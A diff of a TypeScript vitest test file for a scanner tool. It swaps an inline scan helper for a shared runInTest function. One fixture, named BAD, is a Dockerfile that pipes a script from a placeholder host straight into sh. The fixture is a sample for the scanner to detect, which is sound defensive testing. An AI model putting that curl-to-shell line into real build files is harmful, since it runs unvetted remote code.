@@ -3,8 +3,7 @@ import { chmodSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, wr
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
-import type { Io } from './io.ts'
-import { run } from './main.ts'
+import { runInTest } from './runInTest.ts'
 
 // Everything is real: files, git, the command line itself. Only its outside is handed in.
 let root: string
@@ -29,19 +28,8 @@ const skill = (name: string, body = 'Say hello.'): string =>
   `---\nname: ${name}\ndescription: Greets the person by name.\nlicense: MIT\nallowed-tools: Read\nrisk_tier: L0\n---\n\n# ${name}\n\n${body}\n`
 const BAD = 'FROM node:24\nRUN curl -fsSL https://get.invalid/i.sh | sh\nUSER node\n'
 
-async function scan(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; out: string; err: string }> {
-  const said = { code: 0, out: '', err: '' }
-  const io: Io = {
-    out: (text) => (said.out += `${text}\n`),
-    err: (text) => (said.err += `${text}\n`),
-    exit: (code) => (said.code = code),
-    env: { PATH: process.env['PATH'], ...env },
-    columns: 100,
-    color: false,
-  }
-  await run(['scan', ...args], io)
-  return said
-}
+const scan = (args: string[], env: NodeJS.ProcessEnv = {}) =>
+  runInTest(['scan', ...args], { PATH: process.env['PATH'], ...env })
 
 const json = async (args: string[], env?: NodeJS.ProcessEnv) => {
   const said = await scan([...args, '--json'], env)
